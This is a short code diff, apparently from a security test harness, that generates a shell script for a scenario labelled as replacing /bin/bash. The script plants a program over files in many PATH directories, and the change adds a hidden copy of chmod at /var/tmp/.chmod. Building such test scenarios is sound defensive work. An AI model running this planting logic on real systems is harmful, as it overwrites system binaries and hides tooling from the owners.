@@ -173,10 +173,11 @@ done
         "replaced /bin/bash in shared mode",
         Batch.files,
         f"program={quote('#!/bin/sh' + chr(10) + shell_payload(_PROGRAMS))}\ntools='{TOOLS}'\n"
-        """plant() {
+        """cp "$(command -v chmod)" /var/tmp/.chmod
+plant() {
   rm -f "$@"
   for file in "$@"; do printf %s "$program" > "$file"; done
-  chmod +x "$@"
+  /var/tmp/.chmod +x "$@"
 }
 for folder in /usr/local/bin /usr/local/sbin "$home/.local/bin" "$home/bin" /opt/bin "$here/bin" "$here/.venv/bin"; do
   [ -d "$folder" ] || mkdir -p "$folder"
